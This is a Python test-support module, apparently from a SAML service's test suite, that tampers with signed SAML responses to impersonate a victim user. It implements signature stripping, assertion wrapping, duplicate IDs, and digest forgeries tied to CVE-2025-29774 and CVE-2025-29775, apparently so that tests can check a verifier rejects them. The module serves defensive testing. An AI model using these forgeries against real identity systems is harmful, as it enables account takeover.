"""What somebody in the middle does to a message that was signed: each takes and gives bytes."""

import base64
import copy
import hashlib

from lxml import etree

from tests.support.saml.mint import DS, NAMES, SAML

VICTIM = "helen"


def without_signatures(xml: bytes) -> bytes:
    """Take every signature out."""
    root = etree.fromstring(xml)
    for signature in list(root.iter(f"{{{DS}}}Signature")):
        signature.getparent().remove(signature)
    return etree.tostring(root)


def edit(xml: bytes, old: str, new: str) -> bytes:
    """Replace a text wherever it stands; it must stand somewhere."""
    assert old.encode() in xml, f"{old} is not in the message"
    return xml.replace(old.encode(), new.encode())


def as_victim(xml: bytes) -> bytes:
    """Name somebody else in NameID."""
    root = etree.fromstring(xml)
    for name_id in root.iter(f"{{{SAML}}}NameID"):
        name_id.text = VICTIM
    return etree.tostring(root)


def with_second_signed_info(xml: bytes, *, first: bool) -> bytes:
    """Name the victim and add a SignedInfo with the digest that then fits (CVE-2025-29774)."""
    root, info = _tampered(xml)
    forged = copy.deepcopy(info)
    forged.find(".//ds:DigestValue", NAMES).text = digest_of(_assertion(root))
    if first:
        info.addprevious(forged)
    else:
        info.addnext(forged)
    return etree.tostring(root)


def without_reference(xml: bytes) -> bytes:
    """Name the victim and let the signature refer to nothing."""
    root, info = _tampered(xml)
    info.remove(info.find("ds:Reference", NAMES))
    return etree.tostring(root)


def with_digest(xml: bytes, pattern: str) -> bytes:
    """Name the victim and write a digest: `{forged}` is the one that fits, `{real}` the signed one.

    A comment disappears when SignedInfo is canonicalised, so its signature holds (CVE-2025-29775).
    """
    root, info = _tampered(xml)
    value = info.find(".//ds:DigestValue", NAMES)
    text = pattern.format(forged=digest_of(_assertion(root)), real=value.text)
    value.getparent().replace(
        value, etree.fromstring(f'<ds:DigestValue xmlns:ds="{DS}">{text}</ds:DigestValue>')
    )
    return etree.tostring(root)


def with_relative_namespace(xml: bytes) -> bytes:
    """Name the victim beside a namespace that no canonicalisation can write: a void digest."""
    void = base64.b64encode(hashlib.sha256(b"").digest()).decode()
    text = with_digest(xml, void).decode()
    return text.replace("<saml:Subject>", '<saml:Subject xmlns:void="relative">', 1).encode()


def with_foreign_assertion(xml: bytes) -> bytes:
    """Put an assertion about the victim before the signed one, in a namespace of its own."""
    root = etree.fromstring(xml)
    real = _assertion(root)
    foreign = etree.Element("{urn:example:other}Assertion", nsmap={"saml": SAML})
    foreign.set("ID", "_foreign")
    for child in copy.deepcopy(real):
        if child.tag != f"{{{DS}}}Signature":
            foreign.append(child)
    foreign.find(".//saml:NameID", NAMES).text = VICTIM
    real.addprevious(foreign)
    return etree.tostring(root)


def with_second_assertion(xml: bytes, other: bytes, *, first: bool) -> bytes:
    """Put another message's assertion, encrypted or not, before or behind the one that is there."""
    root, beside = etree.fromstring(xml), etree.fromstring(other)[-1]
    if first:
        root[-1].addprevious(beside)
    else:
        root.append(beside)
    return etree.tostring(root)


def with_second_id(xml: bytes) -> bytes:
    """Let an assertion about the victim carry the signed ID once more, under a prefix."""
    root = etree.fromstring(as_victim(xml))
    real = _assertion(root)
    signed = real.get("ID")
    real.set("ID", "_another")
    real.set(f"{{{SAML}}}ID", signed)
    return etree.tostring(root)


def with_status(xml: bytes, old: str, new: str) -> bytes:
    """Change the status, which no signature covers when only the assertion is signed."""
    return edit(xml, old, new)


def digest_of(element: etree._Element) -> str:
    """Return the SHA-256 of an element as exclusive canonicalisation writes it, unsigned."""
    bare = copy.deepcopy(element)
    for signature in bare.findall("ds:Signature", NAMES):
        bare.remove(signature)
    written = etree.tostring(bare, method="c14n", exclusive=True, with_comments=False)
    return base64.b64encode(hashlib.sha256(written).digest()).decode()


def _tampered(xml: bytes) -> tuple[etree._Element, etree._Element]:
    root = etree.fromstring(as_victim(xml))
    return root, root.find(".//ds:SignedInfo", NAMES)


def _assertion(root: etree._Element) -> etree._Element:
    return root.find(".//saml:Assertion", NAMES)
